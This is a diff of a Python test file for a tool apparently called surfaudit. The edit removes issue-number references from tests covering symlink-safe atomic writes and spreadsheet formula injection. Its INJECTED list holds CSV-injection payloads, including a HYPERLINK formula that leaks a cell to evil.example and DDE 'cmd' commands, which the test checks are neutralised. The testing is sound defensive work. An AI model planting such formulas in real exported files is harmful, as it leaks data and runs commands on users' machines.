@@ -1,4 +1,4 @@
-"""Hostile output (issue 12, points 2 and 5): where the tool writes, and what it writes.
+"""Hostile output: where the tool writes, and what it writes.
 
 * The one private atomic writer (surfaudit.atomic) behind `report --output`, `export`
   and `init`: a planted `.F.tmp` (a symlink, or a 0666 file of another user) is never
@@ -31,7 +31,7 @@ NOW = "2026-11-20T12:00:00+00:00"
 T0 = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)  # a Monday, in work hours
 RANGE = ("--from", "2026-11-01", "--to", "2026-11-30")
 
-# Cells a spreadsheet could run as a formula (OWASP's list, widened as issue 12 asks).
+# Cells a spreadsheet could run as a formula (OWASP's list, widened).
 INJECTED = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=1+1", "+1+1", "-1+1", "@SUM(1+1)",
     "=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1",
@@ -65,7 +65,7 @@ def test_the_injected_list_is_printed_and_all_neutralised(capsys):
     from surfaudit.safetext import neutralise
 
     with capsys.disabled():
-        print("\nINJECTED (issue 12 point 5):")
+        print("\nINJECTED:")
         for s in INJECTED:
             print(f"  {s!r} -> {neutralise(s)!r}")
     for s in INJECTED:
